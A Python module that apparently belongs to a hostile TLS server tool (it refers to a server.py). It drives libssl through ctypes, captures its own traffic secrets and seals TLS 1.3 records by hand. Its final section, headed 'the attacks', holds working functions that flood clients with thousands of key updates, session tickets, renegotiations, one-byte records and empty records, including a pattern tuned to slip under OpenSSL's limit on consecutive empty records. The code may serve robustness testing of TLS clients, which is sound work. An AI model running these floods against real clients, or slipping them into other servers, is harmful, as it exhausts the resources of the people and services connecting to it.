"""The server's side of TLS with every message ours to choose: libssl by its C interface, since Python's ssl writes no key updates, no
tickets beyond the first and no records without content, and begins no handshake anew.

A connection has the methods of a socket that Link of server.py uses; what is between it and the network is kept in memory, so that
thousands of messages are made before the first of them is sent."""
import ctypes
import hashlib
import hmac
import struct

ssl = ctypes.CDLL("libssl.so.3")
crypto = ctypes.CDLL("libcrypto.so.3")
pointer, number = ctypes.c_void_p, ctypes.c_int
ALPN = ctypes.CFUNCTYPE(number, pointer, ctypes.POINTER(pointer), ctypes.POINTER(ctypes.c_ubyte), pointer, ctypes.c_uint, pointer)
KEYLOG = ctypes.CFUNCTYPE(None, pointer, ctypes.c_char_p)
for library, result, names in (
        (ssl, pointer, "TLS_server_method SSL_CTX_new SSL_new"), (crypto, pointer, "BIO_new BIO_s_mem EVP_CIPHER_CTX_new EVP_aes_128_gcm"),
        (ssl, number, "SSL_CTX_use_certificate_chain_file SSL_CTX_use_PrivateKey_file SSL_CTX_set_ciphersuites SSL_do_handshake SSL_read "
                      "SSL_write SSL_get_error SSL_key_update SSL_new_session_ticket SSL_renegotiate SSL_renegotiate_pending"),
        (crypto, ctypes.c_size_t, "BIO_ctrl_pending"),
        (crypto, number, "BIO_read BIO_write EVP_EncryptInit_ex EVP_EncryptUpdate EVP_EncryptFinal_ex EVP_CIPHER_CTX_ctrl")):
    for name in names.split():
        getattr(library, name).restype = result
PEM, MAX_VERSION, TLS_1_2, WANT_READ, GET_TAG = 1, 124, 0x0303, 2, 0x10
ANSWER_NOT_ASKED, ANSWER_ASKED = 0, 1
APPLICATION_DATA = 23
HELLO_REQUESTS = struct.pack(">BHH", 22, TLS_1_2, 16000) + b"\x00" * 16000  # 4,000 of them in a record, before anything is encrypted


class Context:
    """Of one certificate. @alpn: the protocol that is chosen."""

    def __init__(self, cert, key, alpn, old):
        self.handle = pointer(ssl.SSL_CTX_new(pointer(ssl.TLS_server_method())))
        self.secrets, self.alpn = {}, ctypes.create_string_buffer(alpn)
        self.callbacks = ALPN(self.choose), KEYLOG(self.note_secret)  # they live as long as this does
        if ssl.SSL_CTX_use_certificate_chain_file(self.handle, cert.encode()) != 1 or \
                ssl.SSL_CTX_use_PrivateKey_file(self.handle, key.encode(), PEM) != 1:
            raise OSError("the certificate of the server")
        ssl.SSL_CTX_set_alpn_select_cb(self.handle, self.callbacks[0], None)
        ssl.SSL_CTX_set_keylog_callback(self.handle, self.callbacks[1])
        ssl.SSL_CTX_set_ciphersuites(self.handle, b"TLS_AES_128_GCM_SHA256")
        ssl.SSL_CTX_set_num_tickets(self.handle, ctypes.c_size_t(0))
        if old:
            ssl.SSL_CTX_ctrl(self.handle, MAX_VERSION, ctypes.c_long(TLS_1_2), None)

    def choose(self, _ssl, out, length, _offered, _n, _ctx):
        out[0] = ctypes.addressof(self.alpn)
        length[0] = len(self.alpn) - 1
        return 0

    def note_secret(self, handle, line):
        label, _, value = line.split(b" ")
        if label == b"SERVER_TRAFFIC_SECRET_0":
            self.secrets[handle] = bytes.fromhex(value.decode())


class Connection:
    def __init__(self, sock, context):
        self.sock, self.context, self.ended = sock, context, False
        self.handle = pointer(ssl.SSL_new(context.handle))
        self.inner, self.outer = (pointer(crypto.BIO_new(pointer(crypto.BIO_s_mem()))) for _ in range(2))
        ssl.SSL_set_bio(self.handle, self.inner, self.outer)
        ssl.SSL_set_accept_state(self.handle)
        self.out, self.buffer, self.records = b"", ctypes.create_string_buffer(1 << 20), 0
        self.sealer = None

    def close(self):
        self.context.secrets.pop(self.handle.value, None)
        ssl.SSL_free(self.handle)  # with both of its ends
        self.handle = None
        self.sock.close()

    # ---- what it says, in memory ----

    def made(self):
        """What was made since."""
        parts = []
        while (n := crypto.BIO_read(self.outer, self.buffer, len(self.buffer))) > 0:
            parts.append(self.buffer.raw[:n])
        return b"".join(parts)

    def make(self, function, *arguments):
        """The messages that a function of libssl has for the client."""
        function(self.handle, *arguments)
        ssl.SSL_do_handshake(self.handle)

    def hear(self, data):
        """What came from the client; returns what it says."""
        crypto.BIO_write(self.inner, data, len(data))
        parts = []
        while (n := ssl.SSL_read(self.handle, self.buffer, len(self.buffer))) > 0:
            parts.append(self.buffer.raw[:n])
        if ssl.SSL_get_error(self.handle, n) != WANT_READ:
            raise OSError("the client ends it")
        self.keep()
        return b"".join(parts)

    def keep(self):
        made = self.made()
        self.out += made
        while made:
            self.records += made[0] == APPLICATION_DATA
            made = made[5 + int.from_bytes(made[3:5], "big"):]

    # ---- as a socket ----

    def handshake(self, send):
        """@send: how its bytes are sent. The socket blocks."""
        while (n := ssl.SSL_do_handshake(self.handle)) != 1:
            if ssl.SSL_get_error(self.handle, n) != WANT_READ:
                raise OSError("the handshake fails")
            send(self.made())
            data = self.sock.recv(65536)
            if not data:
                raise OSError("the client has gone")
            crypto.BIO_write(self.inner, data, len(data))
        send(self.made())

    def flush(self):
        while self.out:
            self.out = self.out[self.sock.send(self.out):]

    def recv(self, _n):
        said = self.hear(b"")  # what came with the end of the handshake
        if not said:
            data = self.sock.recv(65536)
            if not data:
                return b""
            said = self.hear(data)
        if not said:
            raise BlockingIOError
        return said

    def send(self, data):
        self.flush()
        part = bytes(data[:65536])
        if ssl.SSL_write(self.handle, part, len(part)) != len(part):
            raise BlockingIOError  # a handshake goes on
        self.keep()
        try:
            self.flush()
        except BlockingIOError:
            pass  # the rest goes ahead of what is next
        return len(part)

    def fileno(self):
        return self.sock.fileno()

    def setblocking(self, on):
        self.sock.setblocking(on)

    def pending(self):
        return crypto.BIO_ctrl_pending(self.inner)

    # ---- records that libssl does not write ----

    def seal(self, plain):
        """The next record, TLS 1.3 (RFC 8446, 5.2). libssl writes none after it."""
        if not self.sealer:
            secret = self.context.secrets[self.handle.value]
            self.sealer = pointer(crypto.EVP_CIPHER_CTX_new()), expand(secret, b"iv", 12)
            crypto.EVP_EncryptInit_ex(self.sealer[0], pointer(crypto.EVP_aes_128_gcm()), None, expand(secret, b"key", 16), None)
        cipher, iv = self.sealer
        inner = plain + bytes([APPLICATION_DATA])
        head = struct.pack(">BHH", APPLICATION_DATA, TLS_1_2, len(inner) + 16)
        nonce = (int.from_bytes(iv, "big") ^ self.records).to_bytes(12, "big")
        n, sealed, tag = number(), ctypes.create_string_buffer(len(inner)), ctypes.create_string_buffer(16)
        crypto.EVP_EncryptInit_ex(cipher, None, None, None, nonce)
        crypto.EVP_EncryptUpdate(cipher, None, ctypes.byref(n), head, len(head))
        crypto.EVP_EncryptUpdate(cipher, sealed, ctypes.byref(n), inner, len(inner))
        crypto.EVP_EncryptFinal_ex(cipher, tag, ctypes.byref(n))
        crypto.EVP_CIPHER_CTX_ctrl(cipher, GET_TAG, 16, tag)
        self.records += 1
        return head + sealed.raw + tag.raw


def expand(secret, label, length):
    """HKDF-Expand-Label of RFC 8446, 7.1, of one block."""
    label = b"tls13 " + label
    info = struct.pack(">HB", length, len(label)) + label + b"\x00\x01"
    return hmac.new(secret, info, hashlib.sha256).digest()[:length]


# ---- the attacks: each makes some thousand messages; begun: nine bytes with which an answer goes on for ever ----

def key_update(c, _begun):
    for _ in range(2000):
        c.make(ssl.SSL_key_update, ANSWER_NOT_ASKED)
    return c.made()


def key_update_asked(c, _begun):
    for _ in range(2000):
        c.make(ssl.SSL_key_update, ANSWER_ASKED)
    return c.made()


def tickets(c, _begun):
    for _ in range(500):
        c.make(ssl.SSL_new_session_ticket)
    return c.made()


def renegotiate(c, _begun):
    """One handshake at a time is all that a client takes part in."""
    if not ssl.SSL_renegotiate_pending(c.handle):
        c.make(ssl.SSL_renegotiate)
    return c.made()


def small_records(c, begun):
    for i in range(9 * 222):
        ssl.SSL_write(c.handle, begun[i % 9:], 1)
    return c.made()


def empty_records(c, _begun):
    return b"".join(c.seal(b"") for _ in range(2000))


def few_empty_records(c, begun):
    """32 in a row are what OpenSSL takes."""
    return b"".join(c.seal(begun[i // 33 % 9:][:1] if i % 33 == 32 else b"") for i in range(33 * 99))


ATTACKS = {"tls-key-update": key_update, "tls-key-update-asked": key_update_asked, "tls-tickets": tickets, "tls-renegotiate": renegotiate,
           "tls-records": small_records, "tls-empty": empty_records, "tls-few-empty": few_empty_records}
OLD = {"tls-renegotiate", "tls-hello-requests"}  # what TLS 1.3 has no more
IN_HANDSHAKE = {"tls-hello-requests", "tls-dribble"}
MODES = [*ATTACKS, *sorted(IN_HANDSHAKE)]
